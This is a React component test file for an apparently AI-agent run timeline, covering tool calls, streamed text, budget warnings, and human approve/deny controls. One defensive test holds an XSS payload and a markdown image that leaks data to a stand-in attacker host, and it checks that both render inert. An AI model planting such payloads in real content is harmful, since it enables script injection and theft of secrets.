import { render, screen, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import type { RunEvent } from '../src/api/types.ts';
import { Timeline } from '../src/components/timeline.tsx';
import { buildTimeline, openQuestion, pendingApprovals } from '../src/components/timeline-model.ts';
import { Router } from '../src/router.tsx';
import { eventFactory } from './events.ts';

/** A model run: a decision, streamed text, a tool call with a long result, an approval, a delegation. */
function modelRun(): RunEvent[] {
  const event = eventFactory();
  return [
    event('run-start', { goal: 'write a greeting', agent: 'careful', brain: 'model', resumed: false }),
    event('step-start', { step: 1 }),
    event('decision', {
      step: 1,
      about: 'next-action',
      options: [
        { id: 'fs_write', label: 'fs_write', score: 0.9 },
        { id: 'fs_read', label: 'fs_read', score: 0.2 },
      ],
      chosen: 'fs_write',
      reason: 'the goal asks for a file',
    }),
    event('model-call-start', { step: 1, callId: 'm1', model: 'gpt-test' }),
    event('model-call-end', {
      step: 1,
      callId: 'm1',
      model: 'gpt-test',
      usage: { inputTokens: 10, outputTokens: 5 },
      costUsd: 0.001,
      latencyMs: 40,
      text: 'I will **write** the file.',
    }),
    event('tool-call-start', { step: 1, callId: 'run_test:1:0', tool: 'fs_read', args: { path: 'big.txt' } }),
    event('tool-call-end', {
      step: 1,
      callId: 'run_test:1:0',
      tool: 'fs_read',
      ok: true,
      result: { content: 'line\n'.repeat(400) },
      latencyMs: 3,
      fromJournal: false,
    }),
    event('budget-warning', { budget: 'tokens', used: 800, limit: 1000 }),
    event('delegate-start', { step: 1, childRunId: 'run_child', goal: 'summarize', agent: 'summarizer' }),
    event('approval-request', {
      step: 1,
      callId: 'run_test:1:1',
      tool: 'fs_write',
      args: { path: 'greeting.txt', content: 'hello' },
      risk: 'medium',
      reason: 'fs_write needs approval',
    }),
  ];
}

const renderTimeline = (
  events: RunEvent[],
  options: { canAct?: boolean; liveText?: Map<number, string> } = {},
) => {
  const onDecide = vi.fn(async () => undefined);
  render(
    <Router>
      <Timeline
        rows={buildTimeline(events, options.liveText)}
        canAct={options.canAct ?? true}
        onDecide={onDecide}
        onAnswer={vi.fn(async () => undefined)}
        height="2000px"
      />
    </Router>,
  );
  return { onDecide };
};

describe('buildTimeline', () => {
  it('joins a tool call’s start and end, and an approval’s request and resolution, into one row each', () => {
    const event = eventFactory();
    const rows = buildTimeline([
      event('tool-call-start', { step: 1, callId: 'c1', tool: 'fs_list', args: {} }),
      event('approval-request', {
        step: 1,
        callId: 'c2',
        tool: 'fs_write',
        args: {},
        risk: 'high',
        reason: 'r',
      }),
      event('tool-call-end', {
        step: 1,
        callId: 'c1',
        tool: 'fs_list',
        ok: true,
        result: [],
        latencyMs: 1,
        fromJournal: false,
      }),
      event('approval-resolve', { callId: 'c2', approved: true, by: 'alice' }),
    ]);
    expect(rows.map((row) => row.kind)).toEqual(['tool-call', 'approval']);
    expect(rows[0]).toMatchObject({ start: { tool: 'fs_list' }, end: { ok: true } });
    expect(rows[1]).toMatchObject({ resolve: { approved: true, by: 'alice' } });
  });

  it('shows streamed text live until the step’s stored text replaces it', () => {
    const event = eventFactory();
    const start = [event('step-start', { step: 1 })];
    const live = buildTimeline(start, new Map([[1, 'Hel']]));
    expect(live.at(-1)).toMatchObject({ kind: 'text', text: 'Hel', live: true });
    const stored = [
      ...start,
      event('model-call-end', {
        step: 1,
        callId: 'm',
        model: 'x',
        usage: { inputTokens: 1, outputTokens: 1 },
        costUsd: 0,
        latencyMs: 1,
        text: 'Hello',
      }),
    ];
    const done = buildTimeline(stored, new Map([[1, 'Hello']]));
    expect(done.filter((row) => row.kind === 'text')).toEqual([
      expect.objectContaining({ text: 'Hello', live: false }),
    ]);
  });

  it('finds pending approvals and the open question', () => {
    const event = eventFactory();
    const events = [
      event('approval-request', { step: 1, callId: 'a', tool: 't', args: {}, risk: 'high', reason: '' }),
      event('approval-request', { step: 1, callId: 'b', tool: 't', args: {}, risk: 'high', reason: '' }),
      event('approval-resolve', { callId: 'a', approved: false }),
      event('step-end', {
        step: 2,
        outcome: { kind: 'interrupt', on: 'input', callId: 'q', question: 'Which folder?' },
        status: 'waiting_input',
      }),
    ];
    expect(pendingApprovals(events).map((request) => request.callId)).toEqual(['b']);
    expect(openQuestion(events)).toEqual({ callId: 'q', question: 'Which folder?' });
    expect(
      openQuestion([
        ...events,
        event('step-start', { step: 3 }),
        event('step-end', { step: 3, outcome: { kind: 'continue' }, status: 'running' }),
      ]),
    ).toBeUndefined();
  });
});

describe('Timeline', () => {
  it('renders decisions with their options, the model’s text, budget warnings and delegation links', () => {
    renderTimeline(modelRun());
    const decision = screen.getByLabelText('decision: next-action');
    expect(within(decision).getByText('the goal asks for a file')).toBeInTheDocument();
    expect(within(decision).getAllByRole('row')).toHaveLength(3);
    // Markdown from the model becomes elements, not markup text.
    expect(screen.getByText('write').tagName).toBe('STRONG');
    expect(screen.getByRole('status')).toHaveTextContent('Budget tokens: 800 of 1000 used');
    expect(screen.getByRole('link', { name: 'run_child' })).toHaveAttribute('href', '/runs/run_child');
  });

  it('collapses a long tool result until asked', async () => {
    renderTimeline(modelRun());
    const call = screen.getByLabelText('tool call fs_read');
    const expand = within(call).getByRole('button', { name: /Show all \(2,\d{3} characters\)/ });
    expect(call.textContent?.match(/line/g)?.length).toBeLessThan(100);
    await userEvent.click(expand);
    expect(within(call).getByRole('button', { name: 'Collapse' })).toHaveAttribute('aria-expanded', 'true');
    expect(call.textContent?.match(/line/g)?.length).toBeGreaterThanOrEqual(400);
  });

  it('streams text as it arrives, marked live', () => {
    const event = eventFactory();
    renderTimeline([event('step-start', { step: 1 })], {
      liveText: new Map([[1, 'Thinking about the **plan**']]),
    });
    const text = screen.getByLabelText('model text');
    expect(text).toHaveTextContent('streaming');
    expect(text).toHaveTextContent('Thinking about the plan');
  });

  it('offers Approve and Deny on a pending call, and sends the decision with the call id', async () => {
    const { onDecide } = renderTimeline(modelRun());
    const approval = screen.getByLabelText('approval for fs_write');
    await userEvent.click(within(approval).getByRole('button', { name: 'Approve' }));
    expect(onDecide).toHaveBeenCalledExactlyOnceWith('run_test:1:1', { approve: true });
  });

  it('updates live: new text, a resolved approval and the run’s end show in place, the latest handler used', async () => {
    const events = modelRun();
    const event = eventFactory('run_test', events.length);
    const first = vi.fn(async () => undefined);
    const latest = vi.fn(async () => undefined);
    const view = (rows: RunEvent[], liveText: Map<number, string>, onDecide: typeof first) => (
      <Router>
        <Timeline
          rows={buildTimeline(rows, liveText)}
          canAct
          onDecide={onDecide}
          onAnswer={vi.fn(async () => undefined)}
          height="2000px"
        />
      </Router>
    );
    const { rerender } = render(view(events, new Map([[2, 'Wri']]), first));
    expect(screen.getByText('Wri')).toBeInTheDocument();
    rerender(view(events, new Map([[2, 'Writing it']]), latest));
    expect(screen.getByText('Writing it')).toBeInTheDocument();
    // The page's newest handler is the one called, though the row itself did not change.
    await userEvent.click(screen.getByRole('button', { name: 'Approve' }));
    expect(first).not.toHaveBeenCalled();
    expect(latest).toHaveBeenCalledOnce();
    // New events after the same event objects, as the live stream delivers them.
    const resolved = [
      ...events,
      event('approval-resolve', { callId: 'run_test:1:1', approved: false, reason: 'not now', by: 'user:1' }),
      event('run-end', {
        status: 'failed',
        reason: 'denied',
        usage: {
          steps: 1,
          inputTokens: 0,
          outputTokens: 0,
          costUsd: 0,
          modelCalls: 0,
          toolCalls: 0,
          wallMs: 0,
        },
      }),
    ];
    rerender(view(resolved, new Map(), latest));
    expect(screen.getByText(/Denied by user:1: not now/)).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Approve' })).toBeNull();
    expect(screen.getByText('Run ended')).toBeInTheDocument();
  });

  it('gives a viewer no Approve button', () => {
    renderTimeline(modelRun(), { canAct: false });
    expect(screen.getByLabelText('approval for fs_write')).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Approve' })).toBeNull();
    expect(screen.queryByRole('button', { name: 'Deny' })).toBeNull();
  });

  it('renders untrusted HTML and outside images in results and text inert', () => {
    const event = eventFactory();
    const hostile = '<img src=x onerror="window.__pwned=1"> ![x](https://evil.example/?d=secret)';
    const { container } = render(
      <Router>
        <Timeline
          rows={buildTimeline([
            event('step-start', { step: 1 }),
            event('tool-call-start', { step: 1, callId: 'c', tool: 'fs_read', args: { path: 'a' } }),
            event('tool-call-end', {
              step: 1,
              callId: 'c',
              tool: 'fs_read',
              ok: true,
              result: hostile,
              latencyMs: 1,
              fromJournal: false,
            }),
            event('model-call-end', {
              step: 1,
              callId: 'm',
              model: 'x',
              usage: { inputTokens: 1, outputTokens: 1 },
              costUsd: 0,
              latencyMs: 1,
              text: hostile,
            }),
          ])}
          canAct
          onDecide={vi.fn()}
          onAnswer={vi.fn()}
          height="2000px"
        />
      </Router>,
    );
    expect(container.querySelector('img')).toBeNull();
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    // The HTML is shown as what it is, and the image as a note, not loaded.
    expect(screen.getAllByText(/<img src=x onerror=/).length).toBeGreaterThanOrEqual(2);
    expect(screen.getByText(/\[image: x \(https:\/\/evil\.example\/\?d=secret\)\]/)).toBeInTheDocument();
  });
});
